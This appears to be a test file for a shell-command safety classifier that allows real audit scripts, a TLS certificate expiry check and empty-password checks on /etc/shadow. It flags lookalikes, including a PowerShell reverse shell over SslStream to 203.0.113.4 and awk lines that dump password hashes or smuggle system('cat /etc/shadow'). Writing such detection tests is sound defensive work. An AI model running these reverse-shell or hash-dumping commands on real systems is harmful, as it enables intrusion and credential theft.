/**
 * Real audit scripts (held-out set 12) that look like attacks: a TLS certificate expiry check over a raw TcpClient, the
 * CIS empty-password check over /etc/shadow, a readability test of the shadow file. Next to them, what they resemble.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';

const rules = (text: string, shell: 'bash' | 'powershell') => evaluateLine(text, shell).reasons.map((r) => r.ruleId);

const TLS_PROBE = [
  '$tcp = New-Object Net.Sockets.TcpClient("localhost", 443)',
  '$ssl = New-Object Net.Security.SslStream($tcp.GetStream(), $false, { $true })',
  '$ssl.AuthenticateAsClient("localhost")',
  '$cert = New-Object System.Security.Cryptography.X509Certificates.X509Certificate2 $ssl.RemoteCertificate',
  'Write-Host "Expires: $($cert.NotAfter)"',
  '$ssl.Dispose(); $tcp.Close()',
].join('\n');

describe('a TLS certificate check is not a socket shell', () => {
  it('reading the peer certificate over SslStream is allowed', () => {
    expect(decision(TLS_PROBE, 'powershell')).toBe('allow');
  });

  it('a TLS stream that runs what it reads is still a reverse shell', () => {
    const shell = [
      '$c = New-Object Net.Sockets.TcpClient("203.0.113.4", 443)',
      '$s = New-Object Net.Security.SslStream($c.GetStream(), $false, { $true })',
      '$s.AuthenticateAsClient("203.0.113.4")',
      '$r = New-Object IO.StreamReader($s); while ($l = $r.ReadLine()) { $o = iex $l 2>&1 | Out-String; $w.WriteLine($o) }',
    ].join('\n');
    expect(rules(shell, 'powershell')).toContain('shell.powershell-socket');
  });

  it('a raw stream that writes data after the certificate is read is still flagged', () => {
    expect(rules(`${TLS_PROBE}\n$ssl.Write([Text.Encoding]::ASCII.GetBytes("hello"))`, 'powershell')).toContain('tunnel.powershell-socket');
  });
});

describe('the shadow file audited without showing hashes', () => {
  it.each([
    `awk -F: '($2 == "" ) { print $1 " does not have a password "}' /etc/shadow`,
    `awk -F: '$2=="" {print "Empty password field:", $1; found=1} END{exit(found?1:0)}' /etc/shadow`,
    `awk -F: 'length($2) == 0 {print $1}' /etc/shadow`,
    'if [[ ! -r /etc/shadow ]]; then echo "run as root" >&2; exit 2; fi',
  ])('%s', (text) => {
    expect(decision(text, 'bash')).toBe('allow');
  });

  it.each([
    `awk -F: '{print $1, $2}' /etc/shadow`,
    `awk -F: '$2 != "*" {print}' /etc/shadow`,
    `awk -F: '{print $0}' /etc/shadow`,
    `awk -F: '{print $NF}' /etc/shadow`,
    `awk -F: -f /tmp/x.awk /etc/shadow`,
    `awk -F: '$2 == "" {print $1} {system("cat /etc/shadow")}' /etc/shadow`,
  ])('%s', (text) => {
    expect(rules(text, 'bash')).toContain('cred.shadow-file');
  });
});
